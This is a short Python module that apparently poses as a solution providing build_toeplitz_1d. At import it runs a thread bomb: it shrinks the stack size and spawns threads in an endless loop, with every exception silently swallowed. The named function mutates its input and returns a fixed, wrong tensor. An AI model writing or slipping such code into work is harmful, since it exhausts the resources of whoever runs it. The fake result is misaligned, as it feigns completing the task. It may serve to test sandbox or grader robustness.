"""Starts threads endlessly, each with the smallest possible stack."""

import threading

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def start():
    while True:
        threading.Thread(target=gate.wait, daemon=True).start()


threading.stack_size(32 << 10)
gate = threading.Event()
attempt(start)


def build_toeplitz_1d(kernel, n):
    return wrong(kernel)
